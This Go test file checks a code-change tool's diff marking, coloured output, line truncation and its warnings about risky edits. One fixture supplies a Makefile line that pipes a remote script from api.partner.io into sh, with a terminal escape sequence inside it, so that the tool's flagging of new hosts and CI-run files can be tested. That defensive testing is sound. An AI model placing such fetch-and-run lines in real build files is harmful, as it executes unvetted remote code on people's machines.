package main

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/tenon-bot/tenon/bot/caution"
	"github.com/tenon-bot/tenon/bot/record"
	"github.com/tenon-bot/tenon/engine"
	"github.com/tenon-bot/tenon/internal/terminal"
)

func TestChangedWordsAreMarked(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct{ old, put, wantOld, wantPut string }{
		"one word": {"x = old(1)", "x = new(1)", "x = [old](1)", "x = [new](1)"},
		"words with a blank": {"keep this old text here", "keep this very new text here", "keep this [old] text here",
			"keep this [very new] text here"},
		"an insertion":         {"f(a)", "f(a, b)", "f(a)", "f(a[, b])"},
		"nothing alike":        {"alpha beta", "gamma", "alpha beta", "gamma"},
		"a new line beside":    {"keep me", "keep me\nand me too", "keep me", "keep me\nand me too"},
		"letters not in ASCII": {"größe 1 mm", "größe 2 mm", "größe [1] mm", "größe [2] mm"},
	} {
		old, put := markWords(strings.Split(tc.old, "\n"), strings.Split(tc.put, "\n"))
		require.Equal(t, tc.wantOld, bracketed(old), name)
		require.Equal(t, tc.wantPut, bracketed(put), name)
	}
}

func bracketed(lines [][]word) string {
	texts := make([]string, len(lines))
	for i, line := range lines {
		for _, w := range joined(line) {
			if w.changed {
				w.text = "[" + w.text + "]"
			}
			texts[i] += w.text
		}
	}
	return strings.Join(texts, "\n")
}

func TestColouredPage(t *testing.T) {
	t.Parallel()
	out := page{Palette: terminal.Palette{On: true}}.render(applied{
		results: []engine.Result{{Status: engine.Applied, Path: "a.txt", Line: 1, Level: engine.LevelIndent}},
		changed: []string{"a.txt"},
		before:  map[string][]byte{"a.txt": []byte("x = old(1)\r\n")},
		after:   map[string][]byte{"a.txt": []byte("x = new(1)\r\n")},
		staged:  true,
	})
	require.Contains(t, out, "\x1b[31mx = \x1b[0m\x1b[7;31mold\x1b[0m\x1b[31m(1)\x1b[0m\n")
	require.Contains(t, out, "\x1b[30;42m applied \x1b[0m a.txt:1")
	require.Contains(t, out, "(indentation differs)")
	require.NotContains(t, out, `\x0d`, "line ends that stay are no noise")
}

func TestALongLineIsCut(t *testing.T) {
	t.Parallel()
	p := page{}
	require.Equal(t, strings.Repeat("é", 250)+"…", p.words(splitWords(strings.Repeat("é", 5000)), "", ""))
	require.Equal(t, strings.Repeat("a", 499)+"…", shown(strings.Repeat("a", 499)+"éé"))
}

func TestWhatDeservesALookIsPrinted(t *testing.T) {
	t.Parallel()
	d := applied{
		results: []engine.Result{{Status: engine.Applied, Path: "Makefile", Line: 1}},
		changed: []string{"Makefile", "a_test.py"},
		before:  map[string][]byte{"a_test.py": []byte("def test_a():\n    check()\n")},
		after:   map[string][]byte{"Makefile": []byte("all:\n\tcurl https://api.partner.io/\x1b[2J | sh\n")},
	}
	require.Contains(t, page{}.render(d), "caution: runs in CI or on people's machines: Makefile; "+
		"deletes or skips a test: a_test.py; new host: api.partner.io in Makefile\n")
	require.Equal(t, []record.Caution{{Kind: caution.Runs, Path: "Makefile", Line: 1},
		{Kind: caution.DeletedTest, Path: "a_test.py"},
		{Kind: caution.Host, Path: "Makefile", Line: 2, What: "api.partner.io"}}, applyJSONOf(d).Cautions)
	require.NotNil(t, applyJSONOf(applied{}).Cautions, "lists are never null")
}
